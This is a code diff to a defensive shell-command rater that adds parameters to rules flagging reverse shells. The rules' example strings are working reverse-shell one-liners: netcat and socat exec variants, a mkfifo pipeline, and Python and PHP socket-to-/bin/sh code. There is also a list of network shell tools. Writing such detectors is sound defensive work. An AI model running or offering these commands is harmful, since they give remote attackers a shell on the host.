@@ -13,7 +13,9 @@ from gatesh.rater.builtin._base import (
     Hit,
     MatchResult,
     Rule,
+    among,
     heads,
+    interpreters_and,
 )
 from gatesh.rater.builtin.credentials import SENSITIVE
 from gatesh.vocab.programs import SHELLS, is_interpreter
@@ -122,10 +124,10 @@ RULES: tuple[Rule, ...] = (
          heads=heads("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox", "socat", "socket", "cryptcat", "pwncat"),
          examples=("nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash -l 4444", "socat tcp:x:1 exec:sh"),
          counter=("nc -zv host 22", "socat - TCP:localhost:80")),
-    Rule("net.shell-pipe", A, "This is a reverse shell: {detail}.", shell_on_wire,
+    Rule("net.shell-pipe", A, "This is a reverse shell: {detail}.", shell_on_wire, tried_on=among(SHELLS),
          examples=("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "nc host 4444 | bash"),
          counter=("echo ok | sh",)),
-    Rule("net.code-socket", A, "Inline code: {detail}.", code_socket_shell,
+    Rule("net.code-socket", A, "Inline code: {detail}.", code_socket_shell, tried_on=interpreters_and(("jrunscript", "gawk", "awk", "zsh", "tclsh", "node")),
          examples=("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
                    "php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
          counter=("python -c 'import socket; print(socket.gethostname())'",)),
